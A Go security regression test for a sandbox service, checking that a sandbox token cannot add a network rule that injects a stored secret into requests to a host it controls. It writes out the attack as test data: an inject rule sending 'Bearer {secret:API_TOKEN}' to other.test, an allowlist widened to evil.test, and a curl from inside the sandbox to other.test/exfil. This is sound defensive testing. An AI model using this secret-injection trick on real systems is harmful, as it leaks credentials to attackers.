//go:build linux

package hostile

// Secret exfiltration by a sandbox token (issue 14, item 2): a token held
// by code inside the sandbox used to PUT its sandbox's network policy with
// an inject rule sending {secret:NAME} to a host it controls, which echoed
// the secret back. Secrets are now bound to hosts where they are managed,
// a rule for any other host is refused whoever writes it, and a sandbox
// token may only narrow its sandbox's policy.

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/paddockhq/paddock/client"
	"github.com/paddockhq/paddock/internal/audit"
)

// The four steps. Positive controls: other.test echoes an Authorization
// header back (from H), so a rule sending the secret there would hand it
// to the sandbox; the owner's key, which holds the network right, adds a
// rule for a host the secret IS bound to and the secret goes there; the
// token narrows the policy (it may). Sandboxed failure: the token's rule
// for other.test, the token's widening, and the owner's own rule for
// other.test are refused; no request to other.test ever holds the secret.
// The server still answers; the refusals are in the audit log.
func TestSecretExfiltrationByToken(t *testing.T) {
	l := newSrvLab(t)
	if code, body, err := l.get("GET", "https://other.test/control", "", "Authorization", "Bearer echo-control"); err != nil || code != 200 ||
		!strings.Contains(body, "Bearer echo-control") {
		t.Fatalf("positive control: other.test echoes headers from H: %d %q %v", code, body, err)
	}
	value := randomMarker("pdk-hostile-secret")
	id := l.secretSandbox(value)
	l.injected(id, value)
	ctx := ctxT(t, 2*time.Minute)
	tok, err := l.c.CreateToken(ctx, id, []client.Scope{"read", "write", "exec"}, time.Hour)
	must(t, err)
	put := func(cred string, n client.Network) (int, string) {
		b, _ := json.Marshal(n)
		return l.api("PUT", "/v1/sandboxes/"+id+"/network", cred, strings.NewReader(string(b)))
	}
	spec := injectSpec().Network
	leak := client.InjectRule{Host: "other.test", Header: "Authorization", Value: "Bearer {secret:API_TOKEN}"}
	withLeak := *spec
	withLeak.Inject = append(append([]client.InjectRule{}, spec.Inject...), leak)

	// The attack from the issue: the token adds a rule to a host it controls.
	if code, body := put(tok.Token, withLeak); code != 403 || !strings.Contains(body, "cannot add inject rules") {
		t.Errorf("a sandbox token adding an inject rule: %d %s", code, clipS(body))
	}
	// Nor may it widen: open mode, or a name its allowlist lacks.
	if code, body := put(tok.Token, client.Network{Mode: "open"}); code != 403 || !strings.Contains(body, "only narrow") {
		t.Errorf("a sandbox token opening the network: %d %s", code, clipS(body))
	}
	wider := *spec
	wider.Allow = append(append([]string{}, spec.Allow...), "evil.test")
	if code, body := put(tok.Token, wider); code != 403 || !strings.Contains(body, "evil.test is not within") {
		t.Errorf("a sandbox token widening the allowlist: %d %s", code, clipS(body))
	}
	// Whoever writes it, a rule cannot send the secret where it is not
	// bound: the owner's own key (which may change the policy) is refused.
	if code, body := put(l.key, withLeak); code != 403 || !strings.Contains(body, "may be sent only to api.test, api.test:8080, not to other.test") {
		t.Errorf("the owner's key adding a rule for an unbound host: %d %s", code, clipS(body))
	}
	// Nor at create.
	if _, err := l.c.Create(ctx, client.Spec{Network: &withLeak}); !isStatus(err, 403) {
		t.Errorf("a create with a rule for an unbound host: %v", err)
	}
	// The sandbox tries to read it back through other.test: nothing.
	for _, c := range []string{curlT, curlX} {
		res := l.sh(id, c+"-k https://other.test/exfil; echo exit=$?")
		if strings.Contains(res.Stdout+res.Stderr, value) {
			t.Fatalf("the sandbox read the secret back from other.test:\n%s", res.Stdout)
		}
	}
	if _, ok := l.seen.last("other.test:443", "/exfil"); !ok {
		t.Error("positive control: the sandbox's request to other.test did not go out")
	}
	// Positive control: the owner's key re-binds nothing but adds a rule
	// for a bound host (X-Api-Key on api.test) — admitted, and injected.
	more := *spec
	more.Inject = append(append([]client.InjectRule{}, spec.Inject...), client.InjectRule{Host: "api.test", Header: "X-Api-Key", Value: "{secret:API_TOKEN}"})
	if code, body := put(l.key, more); code != 200 {
		t.Fatalf("positive control: the owner's key adding a rule for a bound host: %d %s", code, clipS(body))
	}
	l.sh(id, curlT+"https://api.test/more")
	if got, ok := l.seen.last("api.test:443", "/more"); !ok || got.Header.Get("X-Api-Key") != value {
		t.Errorf("positive control: the added rule's header did not reach api.test (%v)", got.Header)
	}
	// Positive control for the token: narrowing is allowed (drop the rules
	// and other.test).
	if code, body := put(tok.Token, client.Network{Mode: "allowlist", Allow: []string{"api.test"}}); code != 200 {
		t.Errorf("positive control: a sandbox token narrowing its policy: %d %s", code, clipS(body))
	}
	l.onlyAt(value, "api.test:443")
	l.stillServes(id)
	l.httpAudited(id, "/v1/sandboxes/{id}/network", 403)
	for _, want := range []string{"cannot add inject rules", "not to other.test"} {
		l.audited("the refused change: "+want, client.AuditQuery{Sandbox: id, Action: "sandbox.network"}, func(r audit.Record) bool {
			return r.Phase == audit.PhaseResult && r.Code == "forbidden" && strings.Contains(r.Error, want)
		})
	}
}
